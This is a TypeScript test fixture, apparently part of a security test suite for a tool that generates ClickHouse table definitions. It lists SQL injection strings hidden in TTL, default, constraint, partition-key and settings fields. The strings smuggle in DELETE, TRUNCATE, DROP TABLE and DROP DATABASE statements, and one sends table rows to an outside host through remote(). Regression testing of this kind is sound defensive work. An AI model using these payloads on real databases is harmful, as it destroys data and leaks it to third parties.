/** Lies that are told in any case: those that got through once, and those that take long to read. */
import { fc } from "../support/seed.ts";
import type { Lie } from "./hostile_answers.ts";
import { LONG, TAP } from "./hostile_deeds.ts";
import { TABLE_COUNT } from "./hostile_stand.ts";

const DELETION = "ALTER TABLE d.victim DELETE WHERE 1 --";

/** Lies and texts that once got through, or would have: a deletion, a TRUNCATE, rows sent to a stranger. */
export const KNOWN: readonly (readonly [carrier: string, text: string])[] = [
  ["row TTL", `now() /*((((*/, 0)) <= 1, 0) PARALLEL WITH ${DELETION}`],
  ["row TTL, condition", `1 /*((((*/) AND 1, 0) PARALLEL WITH ${DELETION}`],
  ["row TTL with a condition", `now() /*((((*/, 0)) <= 1, 0) PARALLEL WITH ${DELETION}`],
  ["TTL GROUP BY, time", `now() /*((((*/, 0)) <= 1, 0) PARALLEL WITH ${DELETION}`],
  ["row TTL", `ts + (SELECT count() FROM remote('${TAP}', vault.victim))`],
  ["row TTL, condition", "(SELECT count() FROM vault.victim)"],
  ["column TTL", "now() + (SELECT count() FROM vault.victim)"],
  ["constraint", "now() /*((((*/, 0)) <= 1, 0) PARALLEL WITH TRUNCATE TABLE vault.victim --"],
  ["default", "(SELECT count() FROM vault.victim)"],
  ["partition key", "(k, ts) FORMAT JSON\nDROP TABLE d.victim SYNC --"],
  ["new column", "x` String DEFAULT 1; DROP TABLE d.victim --"],
  ["new table, end", " PARALLEL WITH TRUNCATE TABLE vault.victim"],
  ["new table, settings", "index_granularity = 8192 PARALLEL WITH DROP DATABASE vault"],
  ["new table, default", "(SELECT count() FROM vault.victim)"],
  ["new table, TTL", "ts + (SELECT count() FROM vault.victim)"],
  ["new table, engine", "ReplicatedMergeTree('/pwned', 'r') ORDER BY k"],
  ["new table of another name", "d.pwned"],
  ["new table, its parts", "UInt8 STATISTICS(tdigest((SELECT count() FROM vault.victim)))"],
  ["new table, its parts", "Tuple(a (SELECT count() FROM vault.victim))"],
  ["row TTL, condition", "1::Tuple((SELECT count() FROM vault.victim))"],
  ["column TTL", "CAST(ts AS DateTime((SELECT count() FROM vault.victim)))"],
  ["new view", " PARALLEL WITH TRUNCATE TABLE vault.victim"],
];

/** Carriers of texts that the program reads closely. */
const READ_CLOSELY = [
  ...[
    "row TTL",
    "row TTL, condition",
    "TTL GROUP BY, keys",
    "TTL RECOMPRESS",
    "column TTL",
    "default",
    "column type",
  ],
  ...[
    "constraint",
    "index",
    "engine's arguments",
    "settings",
    "partition key",
    "engine clause",
    "definition",
  ],
  ...[
    "end of the definition",
    "new table, end",
    "new table, column",
    "new table, TTL",
    "target of a view",
    "new view",
  ],
];

/** Every long text once by every carrier that is read closely, in an order that the seed gives. */
export function longLies(seed: number): Lie[] {
  const pairs = READ_CLOSELY.flatMap((carrier) => Object.values(LONG).map((text) => ({ carrier, text })));
  const [shuffled] = fc.sample(fc.shuffledSubarray(pairs, { minLength: pairs.length }), { seed, numRuns: 1 });
  return shuffled!.map((pair, at) => ({ ...pair, table: at % TABLE_COUNT }));
}
